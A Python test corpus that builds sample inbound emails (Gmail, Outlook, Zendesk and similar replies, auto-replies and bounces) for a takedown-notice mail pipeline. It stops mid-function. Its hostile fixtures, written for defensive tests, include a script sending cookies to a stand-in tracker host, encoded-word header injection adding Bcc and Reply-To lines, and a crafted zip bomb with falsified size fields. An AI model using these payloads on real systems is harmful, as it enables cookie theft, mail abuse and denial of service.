# Mail is written here as it goes on the wire: long header and HTML lines as clients write
# them, and format=flowed's soft breaks are a trailing space (RFC 3676).
# ruff: noqa: E501, W291
"""Real-world shapes of the mail that comes back to takedown notices, built by code.

No real person's mail: every message is written here, with the headers real clients and
help desks put on theirs copied in shape (Gmail's CA...@mail.gmail.com Message-IDs and
gmail_quote blocks, Outlook's Thread-Index and winmail.dat, Apple Mail's Mime-Version
comment, Thunderbird's format=flowed, Zendesk's and Freshdesk's and Salesforce's
acknowledgements, Postfix's, Exchange's and Gmail's delivery reports) and the breakage
hostile or broken senders produce.

Each shape is built for one takedown request (`Target`: its reply address, our notice's
Message-ID, the platform's ticket number) and says what must come of it (`Expected`) once it
has gone through a way in (IMAP or a webhook) and inbound_receive: its kind, whether it was
filed on the request, left in the staff inbox or quarantined, how it was routed, and the
ticket number read from it. Tests assert every field for every shape.

Sizes that matter (the size limit) come from the caller, so the large message is one byte
over whatever limit the test runs with and the corpus stays small in memory and on disk.
"""

import base64
import io
import quopri
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

# The same values as inbound.models' choices, written out: the corpus says what a message
# is in the words of the issue, not by importing what it tests.
REPLY, AUTO_REPLY, BOUNCE, UNKNOWN = "reply", "auto_reply", "bounce", "unknown"
FILED, INBOX, QUARANTINED = "filed", "inbox", "quarantined"
TOKEN, IN_REPLY_TO, REFERENCES, RETURNED, TICKET = (
    "token",
    "in_reply_to",
    "references",
    "returned",
    "ticket",
)

PLATFORM = "trust-safety@platform.example"
DATE = "Sat, 05 Dec 2026 10:12:33 +0000"


@dataclass(frozen=True)
class Target:
    """The request a shape answers: what our notice carried and what the platform knows."""

    reply_address: str  # replies+<request>@... : the notice's Reply-To
    plain_reply_address: str  # replies@... : the same mailbox without the request's token
    notice_message_id: str  # "<...@leakcase.invalid>", as our notice went out
    notice_subject: str
    ticket_number: str  # the number the platform's desk gave it
    # The platform's own mail domain: a ticket number routes only mail from it.
    platform_domain: str = "platform.example"
    notice_from: str = "notices@leakcase.invalid"


@dataclass(frozen=True)
class Expected:
    kind: str
    status: str
    routed_by: str = ""
    ticket_number: str = ""


@dataclass(frozen=True)
class Shape:
    name: str
    build: Callable[[Target], bytes]
    expected: Expected
    why: str


def crlf(text: str) -> bytes:
    """Mail on the wire: CRLF line ends. Text given with \\n only."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("ascii")


def b64(data: bytes) -> str:
    encoded = base64.b64encode(data).decode("ascii")
    return "\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76))


def qp(text: str, charset: str = "utf-8") -> str:
    return quopri.encodestring(text.replace("\n", "\r\n").encode(charset)).decode("ascii")


def encoded_word(text: str, charset: str, *, b: bool = True) -> str:
    data = text.encode(charset)
    if b:
        return f"=?{charset}?B?{base64.b64encode(data).decode('ascii')}?="
    return f"=?{charset}?Q?{quopri.encodestring(data, header=True).decode('ascii')}?="


# --- replies from people, by client ------------------------------------------------------


def gmail_reply(t: Target) -> bytes:
    """Gmail web: multipart/alternative, both parts quoted-printable-free UTF-8, the quote in
    a gmail_quote block, In-Reply-To and References to our notice, To the reply address."""
    return crlf(f"""\
MIME-Version: 1.0
Date: {DATE}
References: {t.notice_message_id}
In-Reply-To: {t.notice_message_id}
Message-ID: <CAKx8b3ZqV1mW+rT0pLk9x7yQ2nR4sH5jF6dG7aB8cE9d0fU1vw@mail.gmail.com>
Subject: Re: {t.notice_subject}
From: Alex Moderator <alex.moderator@gmail.com>
To: {t.reply_address}
Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60718"

--000000000000a1b2c3d4e5f60718
Content-Type: text/plain; charset="UTF-8"

Hello,

The content at the reported URL has been removed from our service.

Alex

On Sat, Dec 5, 2026 at 9:01 AM Takedown requests <{t.notice_from}> wrote:
> A takedown request under our policy...

--000000000000a1b2c3d4e5f60718
Content-Type: text/html; charset="UTF-8"

<div dir="ltr">Hello,<div><br></div><div>The content at the reported URL has been removed from our service.</div><div><br></div><div>Alex</div></div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Sat, Dec 5, 2026 at 9:01 AM Takedown requests wrote:<br></div><blockquote class="gmail_quote">A takedown request under our policy...</blockquote></div>

--000000000000a1b2c3d4e5f60718--
""")


def outlook_reply(t: Target) -> bytes:
    """Outlook/Exchange: Thread-Index and Thread-Topic, quoted-printable parts, the quote as
    a 'From: / Sent:' block. Sent to the plain replies@ address (a colleague's forward of
    the thread), so only In-Reply-To can route it."""
    text = (
        "Dear Sir or Madam,\n\nWe have reviewed your report. The reported material does not "
        "violate our community guidelines and will remain available.\n\nKind regards,\n"
        "Trust & Safety Team\n\n"
        f"From: Takedown requests <{t.notice_from}>\nSent: Saturday, December 5, 2026 9:01 AM"
        f"\nTo: Trust & Safety <{PLATFORM}>\nSubject: {t.notice_subject}\n"
    )
    html = (
        '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta http-equiv='
        '"Content-Type" content="text/html; charset=utf-8"><style>p.MsoNormal{margin:0cm}'
        '</style></head><body lang="EN-GB"><div class="WordSection1"><p class="MsoNormal">'
        "Dear Sir or Madam,</p><p class=MsoNormal>We have reviewed your report. The reported "
        "material does not violate our community guidelines and will remain available.</p>"
        "</div></body></html>"
    )
    return crlf(f"""\
From: Trust & Safety <{PLATFORM}>
To: "{t.plain_reply_address}" <{t.plain_reply_address}>
Subject: RE: {t.notice_subject}
Thread-Topic: {t.notice_subject}
Thread-Index: AQHbRk3vYk5aTq2T7kS0f3P1p8cVZw==
Date: {DATE}
Message-ID: <DB9PR08MB6591F1A2B3C4D5E6F7A8B9C0D1E2F@DB9PR08MB6591.eurprd08.prod.outlook.com>
References: <unrelated-older@platform.example> {t.notice_message_id}
In-Reply-To: {t.notice_message_id}
Accept-Language: en-GB, en-US
Content-Language: en-GB
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
X-MS-Exchange-Organization-SCL: -1
Content-Type: multipart/alternative;
\tboundary="_000_DB9PR08MB6591F1A2B3C4D5E6F7A8B9C0D1E2FDB9PR08MB6591eurp_"
MIME-Version: 1.0

--_000_DB9PR08MB6591F1A2B3C4D5E6F7A8B9C0D1E2FDB9PR08MB6591eurp_
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp(text)}
--_000_DB9PR08MB6591F1A2B3C4D5E6F7A8B9C0D1E2FDB9PR08MB6591eurp_
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp(html)}
--_000_DB9PR08MB6591F1A2B3C4D5E6F7A8B9C0D1E2FDB9PR08MB6591eurp_--
""")


def outlook_winmail(t: Target) -> bytes:
    """Outlook in rich-text mode: the body and a winmail.dat (application/ms-tnef) in a
    multipart/mixed. The attachment is sealed, never opened."""
    tnef = b"\x78\x9f\x3e\x22" + bytes(range(256)) * 4  # TNEF's signature, then opaque bytes
    return crlf(f"""\
From: Trust & Safety <{PLATFORM}>
To: {t.reply_address}
Subject: RE: {t.notice_subject}
Thread-Topic: {t.notice_subject}
Thread-Index: AdbRk3vYk5aTq2T7kS0f3P1p8cVZwAAAB2Q
Date: {DATE}
Message-ID: <AM0PR02MB5587A1B2C3D4E5F60718293A4B5C6D@AM0PR02MB5587.eurprd02.prod.outlook.com>
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator: <AM0PR02MB5587A1B2C3D4E5F60718293A4B5C6D@AM0PR02MB5587.eurprd02.prod.outlook.com>
Content-Type: multipart/mixed; boundary="_002_AM0PR02MB5587_"
MIME-Version: 1.0

--_002_AM0PR02MB5587_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit

We need more information to process your request. Please provide the exact URL
and proof that you are the person shown.

--_002_AM0PR02MB5587_
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Description: winmail.dat
Content-Disposition: attachment; filename="winmail.dat"; size={len(tnef)}
Content-Transfer-Encoding: base64

{b64(tnef)}

--_002_AM0PR02MB5587_--
""")


def apple_mail_reply(t: Target) -> bytes:
    """Apple Mail: the Mime-Version comment and X-Mailer of macOS Mail, a quoted-printable
    plain part; References only (no In-Reply-To), sent to the plain address."""
    text = (
        "Hi,\n\nThank you for your report. We have taken down the video and suspended the "
        "account that uploaded it.\n\nBest,\nJamie\n\n"
        f"> On 5 Dec 2026, at 09:01, Takedown requests <{t.notice_from}> wrote:\n> \n"
        "> A takedown request under our policy…\n"
    )
    return crlf(f"""\
Content-Type: text/plain;
\tcharset=utf-8
Content-Transfer-Encoding: quoted-printable
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.600.62\\))
Subject: Re: {t.notice_subject}
From: Jamie Reviewer <jamie@platform.example>
Date: {DATE}
References: {t.notice_message_id}
To: {t.plain_reply_address}
Message-Id: <8F1C2E3D-4B5A-4C6D-9E7F-0A1B2C3D4E5F@platform.example>
X-Mailer: Apple Mail (2.3774.600.62)

{qp(text)}
""")


def thunderbird_flowed(t: Target) -> bytes:
    """Thunderbird: text/plain; format=flowed (soft breaks end in a space), User-Agent."""
    return crlf(f"""\
Message-ID: <5d1f0a2b-8c3e-4f7a-9b6d-2e4c8a1f3b5d@platform.example>
Date: Sat, 5 Dec 2026 11:12:33 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Subject: Re: {t.notice_subject}
Content-Language: en-US
To: {t.reply_address}
References: {t.notice_message_id}
From: Robin Abuse Desk <abuse@platform.example>
In-Reply-To: {t.notice_message_id}
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Hello,

we have removed the images you reported. They are no longer available on 
our servers and the links now return an error page.

Regards,
Robin

On 05/12/2026 09:01, Takedown requests wrote:
> A takedown request under our policy...
""")


def forwarded_inline(t: Target) -> bytes:
    """A reply forwarded inline (Gmail's '---------- Forwarded message ---------'), by the
    platform's colleague to the reply address; no In-Reply-To."""
    return crlf(f"""\
MIME-Version: 1.0
Date: {DATE}
Message-ID: <CAF9d2LmWq8xYz3Ab4Cd5Ef6Gh7Ij8Kl9Mn0Op1Qr2St3Uv4@mail.gmail.com>
Subject: Fwd: Re: {t.notice_subject}
From: Sam Legal <sam.legal@platform.example>
To: {t.reply_address}
Content-Type: text/plain; charset="UTF-8"

Forwarding our team's answer below.

---------- Forwarded message ---------
From: Trust & Safety <{PLATFORM}>
Date: Sat, Dec 5, 2026 at 9:30 AM
Subject: Re: {t.notice_subject}
To: Takedown requests <{t.notice_from}>

The content has been removed.
""")


def forwarded_rfc822(t: Target) -> bytes:
    """A reply forwarded as an attachment (message/rfc822): the outer message to the reply
    address, the platform's answer inside."""
    inner = f"""\
From: Trust & Safety <{PLATFORM}>
To: {t.notice_from}
Subject: Re: {t.notice_subject}
Date: {DATE}
Message-ID: <inner-answer-7731@platform.example>
In-Reply-To: {t.notice_message_id}
Content-Type: text/plain; charset=us-ascii

We have removed the content you reported.
"""
    return crlf(f"""\
From: Sam Legal <sam.legal@platform.example>
To: {t.reply_address}
Subject: Fw: Re: {t.notice_subject}
Date: {DATE}
Message-ID: <fwd-as-attachment-2210@platform.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="fwd-boundary-42"

--fwd-boundary-42
Content-Type: text/plain; charset=us-ascii

See the attached answer from our team.

--fwd-boundary-42
Content-Type: message/rfc822
Content-Disposition: attachment; filename="Re: takedown.eml"

{inner}
--fwd-boundary-42--
""")


def quoted_printable_body(t: Target) -> bytes:
    """A plain part in quoted-printable with soft line breaks and encoded UTF-8."""
    text = (
        "Bonjour,\n\nNous avons bien reçu votre signalement et le contenu a été supprimé de "
        "notre plateforme conformément à nos règles d'utilisation — merci de votre patience.\n"
    )
    return crlf(f"""\
From: {encoded_word("Équipe Modération", "utf-8", b=False)} <moderation@platform.example>
To: {t.reply_address}
Subject: {encoded_word("Re: " + t.notice_subject, "utf-8", b=False)}
Date: {DATE}
Message-ID: <qp-reply-5521@platform.example>
In-Reply-To: {t.notice_message_id}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{qp(text)}
""")


def base64_body(t: Target) -> bytes:
    """A plain part in base64 (what some mobile clients send for any non-ASCII text)."""
    text = "Hi — we removed it 👍 The link now shows “content unavailable”.\n"
    return crlf(f"""\
From: Mobile Reviewer <reviewer@platform.example>
To: {t.reply_address}
Subject: Re: {t.notice_subject}
Date: {DATE}
Message-ID: <b64-reply-8812@platform.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

{b64(text.replace(chr(10), chr(13) + chr(10)).encode("utf-8"))}
""")


def iso_8859_1(t: Target) -> bytes:
    """A German desk in ISO-8859-1, quoted-printable, an encoded-word subject."""
    text = (
        "Sehr geehrte Damen und Herren,\n\nder gemeldete Inhalt wurde gelöscht. Für "
        "Rückfragen stehen wir gerne zur Verfügung.\n\nMit freundlichen Grüßen\n"
    )
    return crlf(f"""\
From: =?iso-8859-1?Q?Pr=FCfteam?= <pruefung@platform.example>
To: {t.reply_address}
Subject: {encoded_word("AW: " + t.notice_subject + " - gelöscht", "iso-8859-1", b=False)}
Date: {DATE}
Message-ID: <latin1-reply-3301@platform.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

{qp(text, "iso-8859-1")}
""")


def windows_1252(t: Target) -> bytes:
    """Windows-1252 in 8 bits: curly quotes (0x93/0x94), the euro sign, an en dash."""
    body = (
        "We can\x92t act on this request \x96 the \x93reported content\x94 is not hosted by "
        "us. Fee waived (\x800).\r\n"
    ).encode("latin-1")
    head = crlf(f"""\
From: Hosting Support <support@platform.example>
To: {t.reply_address}
Subject: Re: {t.notice_subject}
Date: {DATE}
Message-ID: <cp1252-reply-4410@platform.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="windows-1252"
Content-Transfer-Encoding: 8bit

""")
    return head + body


def shift_jis(t: Target) -> bytes:
    """A Japanese desk in Shift_JIS (8 bits), an encoded-word subject in Shift_JIS."""
    body = "ご報告ありがとうございます。該当のコンテンツを削除しました。\r\n".encode("shift_jis")
    head = crlf(f"""\
From: {encoded_word("サポート窓口", "shift_jis")} <support-jp@platform.example>
To: {t.reply_address}
Subject: {encoded_word("Re: 削除のご依頼について", "shift_jis")}
Date: {DATE}
Message-ID: <sjis-reply-1207@platform.example>
In-Reply-To: {t.notice_message_id}
MIME-Version: 1.0
Content-Type: text/plain; charset="Shift_JIS"
Content-Transfer-Encoding: 8bit

""")
    return head + body


def html_only(t: Target) -> bytes:
    """HTML and nothing else, with a remote tracking image, a script and an onclick: the
    words must come through, nothing remote may load and no script may survive."""
    html = (
        "<html><head><script>document.location='https://tracker.example/steal?'+document"
        ".cookie</script><style>body{font-family:Arial}</style></head><body>"
        '<p>Hello,</p><p onclick="alert(1)">The reported content was <b>removed</b>.</p>'
        '<img src="https://tracker.example/open.gif?id=8812" width="1" height="1">'
        '<a href="javascript:alert(2)">Click here</a></body></html>'
    )
    return crlf(f"""\
From: Notifications <no-reply@platform.example>
To: {t.reply_address}
Subject: Re: {t.notice_subject}
Date: {DATE}
Message-ID: <html-only-6604@platform.example>
MIME-Version: 1.0
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp(html)}
""")


def ticket_in_subject(t: Target) -> bytes:
    """A desk's agent answers from its own system: a new thread, sent to the plain address,
    no In-Reply-To and no References, only the ticket number in the subject."""
    return crlf(f"""\
From: Help Desk <help@{t.platform_domain}>
To: {t.plain_reply_address}
Subject: [Ticket #{t.ticket_number}] Your report
Date: {DATE}
Message-ID: <agent-answer-{t.ticket_number}@desk.platform.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Hello,

Your report has been reviewed and the content has been removed.

Help Desk
""")


def no_message_id(t: Target) -> bytes:
    """A reply without a Message-ID (some scripts and old gateways): filed all the same,
    once (the raw bytes' hash stands in for the id)."""
    return crlf(f"""\
From: Script Mailer <robot@platform.example>
To: {t.reply_address}
Subject: Re: {t.notice_subject}
Date: {DATE}
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Content removed.
""")


def unrelated(t: Target) -> bytes:
    """Mail that answers nothing of ours (a newsletter to the plain address): the staff
    inbox, to file by hand."""
    return crlf(f"""\
From: Platform News <news@platform.example>
To: {t.plain_reply_address}
Subject: Our updated community guidelines
Date: {DATE}
Message-ID: <newsletter-2026-12@news.platform.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

We have updated our community guidelines. Read them on our website.
""")


# --- automatic replies -------------------------------------------------------------------


def zendesk_ack(t: Target) -> bytes:
    """Zendesk's 'request received': Auto-Submitted: auto-replied (RFC 3834), X-Mailer:
    Zendesk Mailer, the request number in the subject's '[Company] Re:' and the body."""
    return crlf(f"""\
Date: {DATE}
From: Platform Support <support@platform.zendesk.com>
Reply-To: Platform Support <support+id48213@platform.zendesk.com>
To: {t.reply_address}
Message-ID: <ZX7P1WQ2R3S4_65f1a2b3c4d5e_sprut@zendesk.com>
In-Reply-To: {t.notice_message_id}
References: {t.notice_message_id}
Subject: [Platform] Re: {t.notice_subject} (Request #48213)
Mime-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit
Auto-Submitted: auto-replied
X-Mailer: Zendesk Mailer
X-Zendesk-From-Account-Id: 1a2b3c

##- Please type your reply above this line -##

Your request (48213) has been received and is being reviewed by our support staff.

To add additional comments, reply to this email.
""")


def freshdesk_ack(t: Target) -> bytes:
    """Freshdesk's acknowledgement: Precedence: auto_reply and X-Autoreply (no
    Auto-Submitted), 'Ticket Received - <subject>' and '#<number>' in the body."""
    return crlf(f"""\
From: Platform Help <help@platform.freshdesk.com>
To: {t.reply_address}
Subject: Ticket Received - {t.notice_subject}
Date: {DATE}
Message-ID: <fd.ticket.73120.ack@platform.freshdesk.com>
In-Reply-To: {t.notice_message_id}
Precedence: auto_reply
X-Autoreply: yes
X-FD-Email: true
MIME-Version: 1.0
Content-Type: text/html; charset=UTF-8

<p>Dear Requester,</p><p>We would like to acknowledge that we have received your request
and a ticket has been created with Ticket ID - #73120.</p>
<p>A support representative will be reviewing your request and will send you a personal
response (usually within 24 hours).</p>
""")


def salesforce_case(t: Target) -> bytes:
    """Salesforce Email-to-Case's auto-response: 'Case 00123456', the thread ref in subject
    and body, X-SFDC headers, Auto-Submitted: auto-generated."""
    return crlf(f"""\
From: Platform Legal <legal@platform.example>
Sender: noreply@salesforce.com
To: {t.reply_address}
Subject: Case 00123456 created: {t.notice_subject} [ ref:_00D5g2abc._5005g1XyZ:ref ]
Date: {DATE}
Message-ID: <Ab1Cd000000000000000000000000000000000000000000000RZ2K1A00aBcDeFgHiJkLmNoPq@sfdc.net>
In-Reply-To: {t.notice_message_id}
Auto-Submitted: auto-generated
X-SFDC-LK: 00D5g000004abcd
X-SFDC-User: 0055g00000AbCdE
X-Sender: postmaster@salesforce.com
X-mail_abuse_inquiries: http://www.salesforce.com/company/abuse.jsp
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8

Thank you for contacting us. Your case number is 00123456.
We will respond within 5 business days.

ref:_00D5g2abc._5005g1XyZ:ref
""")


def generic_ticket_ack(t: Target) -> bytes:
    """A home-made desk: '[Ticket #12345]' in the subject, X-Auto-Response-Suppress and
    Precedence: bulk, routed by the ticket number alone (plain address, no references)."""
    return crlf(f"""\
From: Abuse Desk <abuse-desk@{t.platform_domain}>
To: {t.plain_reply_address}
Subject: [Ticket #{t.ticket_number}] Received: {t.notice_subject}
Date: {DATE}
Message-ID: <ack-{t.ticket_number}@desk.platform.example>
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
Precedence: bulk
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

This is an automatic message. Your report was logged as ticket #{t.ticket_number}.
""")


def out_of_office(t: Target) -> bytes:
    """Exchange's out-of-office: Auto-Submitted: auto-replied, 'Automatic reply:', no ticket."""
    return crlf(f"""\
From: Alex Moderator <alex.moderator@platform.example>
To: {t.reply_address}
Subject: Automatic reply: {t.notice_subject}
Thread-Topic: {t.notice_subject}
Thread-Index: AQHbRk3vYk5aTq2T7kS0f3P1p8cVZwAAAAAA
Date: {DATE}
Message-ID: <oof-7741@platform.example>
In-Reply-To: {t.notice_message_id}
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: alex.moderator@platform.example
Content-Type: text/plain; charset="us-ascii"
MIME-Version: 1.0

I am out of the office until 14 December with limited access to email.
""")


# --- delivery failures (RFC 3464) ----------------------------------------------------------


def _notice_headers(t: Target, to: str) -> str:
    return f"""\
From: Takedown requests <{t.notice_from}>
To: {to}
Reply-To: {t.reply_address}
Subject: {t.notice_subject}
Date: Sat, 05 Dec 2026 09:01:00 +0000
Message-ID: {t.notice_message_id}
"""


def postfix_bounce(t: Target) -> bytes:
    """Postfix: multipart/report with the human part, message/delivery-status and the
    returned headers (text/rfc822-headers) carrying our notice's Message-ID."""
    return crlf(f"""\
Return-Path: <>
Date: {DATE}
From: MAILER-DAEMON@mx.platform.example (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: {t.notice_from}
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="4F1C21E0A2.1733390000/mx.platform.example"
Message-Id: <20261205101233.4F1C21E0A2@mx.platform.example>

This is a MIME-encapsulated message.

--4F1C21E0A2.1733390000/mx.platform.example
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.platform.example.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<old-abuse@platform.example>: host mx.platform.example said: 550 5.1.1
    <old-abuse@platform.example>: Recipient address rejected: User unknown

--4F1C21E0A2.1733390000/mx.platform.example
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.platform.example
X-Postfix-Queue-ID: 4F1C21E0A2
Arrival-Date: Sat,  5 Dec 2026 09:01:02 +0000 (UTC)

Final-Recipient: rfc822; old-abuse@platform.example
Original-Recipient: rfc822;old-abuse@platform.example
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 <old-abuse@platform.example>: Recipient address
    rejected: User unknown

--4F1C21E0A2.1733390000/mx.platform.example
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

{_notice_headers(t, "old-abuse@platform.example")}
--4F1C21E0A2.1733390000/mx.platform.example--
""")


def exchange_ndr(t: Target) -> bytes:
    """Exchange Online's NDR: X-MS-Exchange-Message-Is-Ndr, an HTML explanation, the
    delivery status, and the whole returned notice as message/rfc822."""
    return crlf(f"""\
From: Microsoft Outlook <MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@platform.example>
To: {t.notice_from}
Date: {DATE}
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="b2e8c1f0-7d3a-4c2b-9e1f-ndr"
X-MS-Exchange-Message-Is-Ndr:
Content-Language: en-US
Message-ID: <a3b4c5d6-e7f8-4a9b-8c0d-1e2f3a4b5c6d@DB9PR08MB6591.eurprd08.prod.outlook.com>
In-Reply-To: {t.notice_message_id}
References: {t.notice_message_id}
Subject: Undeliverable: {t.notice_subject}
Auto-Submitted: auto-replied
MIME-Version: 1.0

--b2e8c1f0-7d3a-4c2b-9e1f-ndr
Content-Type: text/html; charset="us-ascii"

<html><body><b><font color="#000066" size="3">Your message to reports@platform.example couldn't be delivered.</font></b><br>reports wasn't found at platform.example.</body></html>

--b2e8c1f0-7d3a-4c2b-9e1f-ndr
Content-Type: message/delivery-status

Reporting-MTA: dns;DB9PR08MB6591.eurprd08.prod.outlook.com
Received-From-MTA: dns;leakcase.invalid
Arrival-Date: Sat, 5 Dec 2026 09:01:02 +0000

Final-Recipient: rfc822;reports@platform.example
Action: failed
Status: 5.1.10
Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup

--b2e8c1f0-7d3a-4c2b-9e1f-ndr
Content-Type: message/rfc822

{_notice_headers(t, "reports@platform.example")}MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

A takedown request under our policy...

--b2e8c1f0-7d3a-4c2b-9e1f-ndr--
""")


def gmail_bounce(t: Target) -> bytes:
    """Gmail's mailer-daemon: 'Delivery Status Notification (Failure)', X-Failed-Recipients,
    the returned notice as message/rfc822. No In-Reply-To: only the returned message
    routes it."""
    return crlf(f"""\
MIME-Version: 1.0
From: Mail Delivery Subsystem <mailer-daemon@googlemail.com>
To: {t.notice_from}
Auto-Submitted: auto-replied
Message-ID: <675172b1.050a0220.3b2f1.9a8eSMTPIN_ADDED_MISSING@mx.google.com>
Date: {DATE}
Subject: Delivery Status Notification (Failure)
X-Failed-Recipients: gone@platform.example
Content-Type: multipart/report; boundary="00000000000011223344556677"; report-type=delivery-status

--00000000000011223344556677
Content-Type: text/plain; charset="UTF-8"

Address not found

Your message wasn't delivered to gone@platform.example because the address couldn't be
found, or is unable to receive mail.

--00000000000011223344556677
Content-Type: message/delivery-status

Reporting-MTA: dns; googlemail.com
Arrival-Date: Sat, 05 Dec 2026 09:01:02 -0800 (PST)

Final-Recipient: rfc822; gone@platform.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.platform.example. (192.0.2.25, the server for the domain platform.example.)
Diagnostic-Code: smtp; 550-5.1.1 The email account that you tried to reach does not exist.
Last-Attempt-Date: Sat, 05 Dec 2026 09:01:03 -0800 (PST)

--00000000000011223344556677
Content-Type: message/rfc822

{_notice_headers(t, "gone@platform.example")}Content-Type: text/plain; charset=utf-8

A takedown request under our policy...

--00000000000011223344556677--
""")


# --- hostile and broken ---------------------------------------------------------------


def missing_boundary_end(t: Target) -> bytes:
    """multipart/mixed whose closing boundary never comes (a truncated or hand-made
    message): the parser's defect, quarantined."""
    return crlf(f"""\
From: Broken Sender <broken@platform.example>
To: {t.reply_address}
Subject: Re: {t.notice_subject}
Date: {DATE}
Message-ID: <no-close-boundary-1@platform.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="never-closed"

--never-closed
Content-Type: text/plain; charset=us-ascii

The content was removed.
""")


def bad_base64(t: Target) -> bytes:
    """A base64 part that is not base64 (stray characters, wrong padding)."""
    return crlf(f"""\
From: Broken Sender <broken@platform.example>
To: {t.reply_address}
Subject: Re: {t.notice_subject}
Date: {DATE}
Message-ID: <bad-base64-2@platform.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

SGVsbG8sIHRoZSBjb250ZW50IHdhcyByZW1vdmVk!!!***%%%
=Zm9v=YmFy====x
""")


def header_injection(t: Target) -> bytes:
    """Encoded words that decode to line breaks and new headers (a Bcc in the subject, a
    Reply-To in the sender's name). The words are a reply like any other and are filed as
    one; none of the "headers" may take effect (the sender stays support@, nobody is
    Bcc'd)."""
    injected_subject = encoded_word(
        f"Re: {t.notice_subject}\r\nBcc: victim@example.com\r\nX-Injected: yes", "utf-8"
    )
    injected_name = encoded_word("Support\r\nReply-To: attacker@example.com", "utf-8")
    return crlf(f"""\
From: {injected_name} <support@platform.example>
To: {t.reply_address}
Subject: {injected_subject}
Date: {DATE}
Message-ID: <header-injection-3@platform.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Content removed.
""")


# The zip bomb: what it really holds (deflated zeros, a thousand to one) and what its
# directory says it holds. Compressing a real gigabyte takes seconds; the server reads only
# the directory (it never opens an attachment), so the declared size is what it judges.
ZIP_BOMB_REAL_BYTES = 8 * 1024 * 1024
ZIP_BOMB_DECLARED_BYTES = 3 * 1024 * 1024 * 1024  # 3 GiB, under the 4 GiB of a plain zip field


def nul_bytes(t: Target) -> bytes:
    """NUL bytes in a header and the body (PostgreSQL text refuses them): must be
    quarantined like any unreadable message, never crash the service."""
    return crlf(f"""\
From: Broken Sender <broken@platform.example>
To: {t.reply_address}
Subject: Re: {t.notice_subject}\x00
Date: {DATE}
Message-ID: <nul-bytes-6@platform.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Content\x00 removed.
""")


def zip_bomb_attachment() -> bytes:
    """A zip of one member: 8 MiB of zeros deflated (about 8 kB), its local header and
    central directory then made to declare 3 GiB uncompressed, as a crafted bomb does."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("screenshots.bin", bytes(ZIP_BOMB_REAL_BYTES))
    data = bytearray(buffer.getvalue())
    declared = struct.pack("<I", ZIP_BOMB_DECLARED_BYTES)
    local = data.index(b"PK\x03\x04")
    data[local + 22 : local + 26] = declared  # local file header: uncompressed size
    central = data.index(b"PK\x01\x02")
    data[central + 24 : central + 28] = declared  # central directory: uncompressed size
    return bytes(data)


_ZIP_BOMB: bytes | None = None


def zip_bomb(t: Target) -> bytes:
    global _ZIP_BOMB
    if _ZIP_BOMB is None:  # once per test session
        _ZIP_BOMB = zip_bomb_attachment()
    return crlf(f"""\
From: Helpful Stranger <helper@platform.example>
To: {t.reply_address}
Subject: Re: {t.notice_subject}
Date: {DATE}
Message-ID: <zip-bomb-4@platform.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="bomb"

--bomb
Content-Type: text/plain; charset=us-ascii

The evidence you asked for is attached.

--bomb
Content-Type: application/zip; name="evidence.zip"
Content-Disposition: attachment; filename="evidence.zip"
Content-Transfer-Encoding: base64

{b64(_ZIP_BOMB)}
--bomb--
""")


def too_large(t: Target, limit: int) -> bytes:
    """A well-formed reply one attachment past the size limit (a video someone attached)."""
    head = crlf(f"""\
From: Big Sender <big@platform.example>
To: {t.reply_address}
Subject: Re: {t.notice_subject}
Date: {DATE}
Message-ID: <too-large-5@platform.example>
